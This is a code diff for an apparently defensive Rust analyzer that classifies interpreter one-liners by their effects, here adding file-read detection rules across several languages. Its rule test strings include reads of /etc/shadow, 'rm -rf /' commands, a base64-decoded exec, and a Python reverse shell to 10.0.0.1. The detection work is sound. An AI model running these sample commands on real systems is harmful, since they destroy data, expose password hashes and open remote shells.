@@ -215,6 +215,8 @@ pub(crate) enum Effect {
     Shell(&'static str, String),
     /// Writes a file.
     Write(&'static str, String),
+    /// Reads a file.
+    Read(&'static str, String),
     /// A finding that needs no further analysis.
     Finding(&'static str, Risk, &'static str, String),
     /// Something that hides what runs.
@@ -248,6 +250,8 @@ pub(crate) enum Action {
     Shell,
     /// Writes ARG.
     Write,
+    /// Reads ARG.
+    Read,
     /// Opaque with this reason.
     Opaque(&'static str),
     /// A finding: category, risk, explanation.
@@ -273,6 +277,14 @@ pub(crate) const INTERP_RULES: &[InterpRule] = &[
     InterpRule { id: "py.path_unlink", langs: &[Python], pattern: concat!(r"Path\(\s*(?:'((?:[^'\\]|\\.)*)'|", r#""((?:[^"\\]|\\.)*)")\s*\)\.(?:unlink|rmdir)"#), action: Action::Remove, matches: &["from pathlib import Path; Path('/x').unlink()"], not_matches: &["Path('/x').exists()"]},
     InterpRule { id: "py.system", langs: &[Python], pattern: lit!(r"(?:os\.(?:system|popen)|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput))\(\s*(?:args\s*=\s*)?"), action: Action::Shell, matches: &["import os; os.system('rm -rf /')"], not_matches: &["print('os.system')"]},
     InterpRule { id: "py.subprocess_list", langs: &[Python], pattern: r"subprocess\.(?:run|call|check_call|check_output|Popen)\(\s*\[([^\]]*)\]", action: Action::Shell, matches: &["import subprocess; subprocess.run(['rm', '-rf', '/'])"], not_matches: &["subprocess_run = 1"]},
+    InterpRule { id: "py.open_read", langs: &[Python], pattern: lit!(r"\b(?:open|io\.open|codecs\.open)\("), action: Action::Read, matches: &["print(open('/etc/shadow').read())", "open(\"k\", \"rb\")"], not_matches: &["f.read()"]},
+    InterpRule { id: "py.path_read", langs: &[Python], pattern: concat!(r"Path\(\s*(?:'((?:[^'\\]|\\.)*)'|", r#""((?:[^"\\]|\\.)*)")\s*\)\.(?:read_text|read_bytes|open)\("#), action: Action::Read, matches: &["from pathlib import Path; print(Path('k').read_text())"], not_matches: &["Path('k').exists()"]},
+    InterpRule { id: "js.read", langs: &[Node], pattern: lit!(r"\b(?:readFileSync|readFile|createReadStream)\("), action: Action::Read, matches: &["console.log(require('fs').readFileSync('/etc/shadow', 'utf8'))"], not_matches: &["fs.existsSync('/x')"]},
+    InterpRule { id: "rb.read", langs: &[Ruby], pattern: lit!(r"\b(?:File|IO)\.(?:read|binread|readlines|foreach|open)\s*\(?"), action: Action::Read, matches: &["puts File.read('/etc/shadow')"], not_matches: &["File.exist?('x')"]},
+    InterpRule { id: "pl.open_read", langs: &[Perl], pattern: concat!(r#"open\s*\(?[^,;]*,\s*(?:'<'|"<")\s*,\s*"#, r#"(?:'((?:[^'\\]|\\.)*)'|"((?:[^"\\]|\\.)*)")"#), action: Action::Read, matches: &["open(my $f, '<', '/etc/shadow'); print <$f>"], not_matches: &["print 1"]},
+    InterpRule { id: "php.read", langs: &[Php], pattern: lit!(r"\b(?:file_get_contents|fopen|readfile|file|highlight_file|show_source)\s*\("), action: Action::Read, matches: &["echo file_get_contents('/etc/shadow');"], not_matches: &["echo 1;"]},
+    InterpRule { id: "lua.read", langs: &[Lua], pattern: lit!(r"\bio\.(?:open|lines)\s*\("), action: Action::Read, matches: &["print(io.open('/etc/shadow'):read('a'))"], not_matches: &["print('x')"]},
+    InterpRule { id: "awk.getline_file", langs: &[Awk], pattern: r#"getline[^<;}]*<\s*"([^"]+)""#, action: Action::Read, matches: &["BEGIN { getline l < \"/etc/shadow\"; print l }"], not_matches: &["{ getline; print }"]},
     InterpRule { id: "py.open_write", langs: &[Python], pattern: concat!(r"open\(\s*(?:'((?:[^'\\]|\\.)*)'|", r#""((?:[^"\\]|\\.)*)")\s*,\s*['"][wax]"#), action: Action::Write, matches: &["open('/etc/hosts', 'w').write('x')"], not_matches: &["open('/etc/hosts').read()"]},
     InterpRule { id: "py.dynamic_exec", langs: &[Python], pattern: r"\b(?:exec|eval|compile|__import__)\s*\(|os\.(?:system|popen|exec\w*|spawn\w*)\(\s*[^'\x22\s]|subprocess\.\w+\(\s*[^'\x22\[\s]", action: Action::Opaque("runs code or commands built at run time"), matches: &["exec(base64.b64decode(x))", "os.system(cmd)"], not_matches: &["print(1)", "os.system('ls')"]},
     InterpRule { id: "py.reverse_shell", langs: &[Python], pattern: r"(?s)socket.*connect.*(?:dup2|pty\.spawn|subprocess|/bin/(?:ba)?sh)", action: Action::Finding("reverse_shell", Risk::Catastrophic, "connects a socket to a shell"), matches: &["import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4242));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"], not_matches: &["import socket; socket.gethostname()"]},
@@ -352,6 +364,7 @@ pub(crate) fn effects(lang: Interp, code: &str) -> Vec<Effect> {
                 }
                 Action::Shell => out.push(Effect::Shell(rule.id, arg)),
                 Action::Write => out.push(Effect::Write(rule.id, arg)),
+                Action::Read => out.push(Effect::Read(rule.id, arg)),
                 Action::Opaque(why) => out.push(Effect::Opaque(rule.id, why.to_owned())),
                 Action::Finding(cat, risk, why) => {
                     out.push(Effect::Finding(rule.id, risk, cat, why.to_owned()))
@@ -384,6 +397,11 @@ impl Walker<'_> {
                         r.extra_writes.push(path);
                     }
                 }
+                Effect::Read(_, path) => {
+                    if let Some(r) = owner.and_then(|o| self.recs.get_mut(o)) {
+                        r.extra_reads.push(path);
+                    }
+                }
                 Effect::Finding(id, risk, cat, why) => {
                     self.finding(
                         risk,
@@ -410,6 +428,7 @@ mod tests {
                     effects(*l, m).iter().any(|e| match e {
                         Effect::Shell(id, _)
                         | Effect::Write(id, _)
+                        | Effect::Read(id, _)
                         | Effect::Finding(id, ..)
                         | Effect::Opaque(id, _) => *id == rule.id,
                     })
@@ -421,6 +440,7 @@ mod tests {
                     effects(*l, m).iter().any(|e| match e {
                         Effect::Shell(id, _)
                         | Effect::Write(id, _)
+                        | Effect::Read(id, _)
                         | Effect::Finding(id, ..)
                         | Effect::Opaque(id, _) => *id == rule.id,
                     })
